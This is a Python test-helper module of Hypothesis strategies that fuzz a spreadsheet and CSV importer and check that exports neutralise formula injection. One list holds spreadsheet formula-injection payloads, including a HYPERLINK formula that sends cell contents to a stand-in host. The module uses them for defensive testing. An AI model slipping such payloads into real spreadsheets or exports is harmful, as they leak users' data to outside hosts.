"""Hypothesis strategies for the importer fuzz tests: valid files (exported from real data) broken
the ways files break — bytes flipped, cut short, a ZIP member corrupted, lines shuffled — and valid
workbooks whose cells were edited the ways people edit them (any text, formulas, huge numbers,
dates and booleans where text belongs)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import struct
import zipfile

from hypothesis import strategies as st

# The formula payloads of issue 18: text that a spreadsheet would run.
FORMULA_PAYLOADS = ['=HYPERLINK("http://x.example/?leak="&A2,"詳細")', "+81-3-1234", "-5%削減", "@SUM(A1)", "\t=1", "\r=1"]

# Text openpyxl can store (it refuses most C0 control characters; surrogates cannot be encoded).
_CELL_ALPHABET = st.characters(blacklist_categories=("Cs",), blacklist_characters="".join(
    chr(c) for c in (*range(0, 9), 11, 12, *range(14, 32))
))
cell_text = st.text(_CELL_ALPHABET, max_size=40)

cell_values = st.one_of(
    cell_text,
    st.sampled_from(FORMULA_PAYLOADS),
    st.sampled_from(["=1+1", "=SUM(A1:A3)", "=A1", "=NOW()"]),  # written as formulas without a saved result
    st.sampled_from(["令和5年度", "R6", "2024", "◎", "○", "△", "済", "未", "1-1", "集計中", "85%以下", "約200万件", ""]),
    st.integers(min_value=-(10**20), max_value=10**20),
    st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(),
    st.datetimes(min_value=dt.datetime(1900, 3, 1), max_value=dt.datetime(9999, 12, 31)),
    st.dates(min_value=dt.date(1900, 3, 1), max_value=dt.date(9999, 12, 31)),
    st.none(),
    st.text(_CELL_ALPHABET, min_size=300, max_size=3000),  # longer than any column allows
)


def member_regions(data: bytes) -> list[tuple[str, int, int]]:
    """(member name, first byte, end) of every member's stored data inside a ZIP."""
    regions = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for info in archive.infolist():
            name_length, extra_length = struct.unpack_from("<HH", data, info.header_offset + 26)
            start = info.header_offset + 30 + name_length + extra_length
            if info.compress_size:
                regions.append((info.filename, start, start + info.compress_size))
    return regions


def flipped(data: bytes, member: str) -> bytes:
    """``data`` with the middle byte of ``member``'s stored data inverted."""
    _, start, end = next(r for r in member_regions(data) if r[0] == member)
    out = bytearray(data)
    out[(start + end) // 2] ^= 0xFF
    return bytes(out)


@st.composite
def corrupted_bytes(draw, data: bytes) -> bytes:
    """``data`` with a few bytes flipped (anywhere, or inside one ZIP member), or cut short."""
    out = bytearray(data)
    how = draw(st.sampled_from(["flip", "flip inside a member", "truncate"] if data[:2] == b"PK" else ["flip", "truncate"]))
    if how == "truncate":
        return bytes(out[: draw(st.integers(0, len(out) - 1))])
    if how == "flip inside a member":
        _, start, end = draw(st.sampled_from(member_regions(data)))
    else:
        start, end = 0, len(out)
    for _ in range(draw(st.integers(1, 4))):
        position = draw(st.integers(start, end - 1))
        out[position] ^= draw(st.integers(1, 255))
    return bytes(out)


@st.composite
def edited_lines(draw, text: str) -> str:
    """A text document with lines removed, repeated, swapped or replaced by other text."""
    lines = text.split("\n")
    for _ in range(draw(st.integers(1, 6))):
        i = draw(st.integers(0, len(lines) - 1))
        how = draw(st.sampled_from(["drop", "repeat", "replace", "swap", "truncate line"]))
        if how == "drop":
            del lines[i]
        elif how == "repeat":
            lines.insert(i, lines[i])
        elif how == "replace":
            lines[i] = draw(st.one_of(cell_text, st.sampled_from(FORMULA_PAYLOADS)))
        elif how == "swap":
            j = draw(st.integers(0, len(lines) - 1))
            lines[i], lines[j] = lines[j], lines[i]
        else:
            lines[i] = lines[i][: draw(st.integers(0, len(lines[i])))]
        if not lines:
            lines = [""]
    return "\n".join(lines)


@st.composite
def edited_xlsx(
    draw, data: bytes, sheets: list[str] | None = None, *, max_row: int | None = None, columns: dict[str, list[int]] | None = None,
) -> bytes:
    """The workbook with up to five cells of ``sheets`` (all by default) set to :data:`cell_values`;
    four edits in five go to ``columns[sheet]`` when given (the cells people fill in)."""
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    names = sheets or book.sheetnames
    for _ in range(draw(st.integers(1, 5))):
        name = draw(st.sampled_from(names))
        ws = book[name]
        last = max(2, min(ws.max_row + 1, max_row or 10**9))
        if columns and columns.get(name) and draw(st.integers(0, 4)):
            row, column = draw(st.integers(2, last)), draw(st.sampled_from(columns[name]))
        else:
            row, column = draw(st.integers(1, last)), draw(st.integers(1, ws.max_column + 1))
        ws.cell(row=row, column=column).value = draw(cell_values)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _csv_cell(value) -> str:
    if value is None:
        return ""
    if isinstance(value, (dt.date, dt.datetime)):
        return value.isoformat()
    return str(value)


@st.composite
def edited_csv(draw, text: str) -> str:
    """The CSV with up to five cells set to the text of :data:`cell_values` (written raw, as another
    program would write them: no quote in front of a formula)."""
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    for _ in range(draw(st.integers(1, 5))):
        r = draw(st.integers(0, len(rows)))
        if r == len(rows):
            rows.append([])
        c = draw(st.integers(0, max(len(rows[r]), 1)))
        while len(rows[r]) <= c:
            rows[r].append("")
        rows[r][c] = _csv_cell(draw(cell_values)).replace("\x00", "")
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return "\ufeff" + out.getvalue()


@st.composite
def edited_csv_zip(draw, data: bytes) -> bytes:
    """The CSV-zip with cells of one member edited (:func:`edited_csv`)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    name = draw(st.sampled_from(sorted(members)))
    members[name] = draw(edited_csv(members[name].decode("utf-8-sig"))).encode("utf-8")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, content in members.items():
            archive.writestr(member, content)
    return out.getvalue()


def database_state() -> dict[str, int]:
    """Rows of every shinchoku table (the change log included): equal before and after = nothing written."""
    from django.apps import apps

    return {
        model._meta.label: model.objects.count()
        for model in apps.get_models()
        if model.__module__.startswith("shinchoku.")
    }


# --------------------------------------------------------------------------- formula payloads in exports


def xlsx_texts(data: bytes, *, formula_sheets: tuple[str, ...] = ()) -> dict[str, list[tuple[str, str, str]]]:
    """Every text of the workbook as Excel reads it → [(sheet, cell, data type)], checking on the way
    that no cell is a formula (except in ``formula_sheets``, the product's own)."""
    from openpyxl import load_workbook

    from shinchoku.core.cellsafety import ooxml_unescape

    book = load_workbook(io.BytesIO(data))
    texts: dict[str, list[tuple[str, str, str]]] = {}
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert ws.title in formula_sheets, f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                    continue
                if isinstance(cell.value, str):
                    texts.setdefault(ooxml_unescape(cell.value), []).append((ws.title, cell.coordinate, cell.data_type))
    return texts


def assert_xlsx_carries_payloads(data: bytes, payloads, *, formula_sheets: tuple[str, ...] = ()) -> None:
    """Each payload is in at least one cell, as a string cell with exactly its text; no formula anywhere."""
    texts = xlsx_texts(data, formula_sheets=formula_sheets)
    for payload in payloads:
        assert payload in texts, f"{payload!r} is in no cell"
        assert all(data_type == "s" for _, _, data_type in texts[payload]), texts[payload]


def assert_csv_neutralises_payloads(text: str, payloads) -> list[list[str]]:
    """Each payload is a field that starts with the quote of the neutraliser (and reads back to the
    payload); no field starts with a formula character unless it is a plain number. The rows."""
    from shinchoku.core.cellsafety import TRIGGERS, restore

    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    fields = [field for row in rows for field in row]
    for payload in payloads:
        quoted = [f for f in fields if f.startswith("'") and restore(f) == payload]
        assert quoted, f"{payload!r} is in no field as '{payload!r}"
        assert payload not in fields, f"{payload!r} is written as a live formula"
    for field in fields:
        if field and field[0] in TRIGGERS:
            float(field)  # only a plain number may start with + or -
    return rows
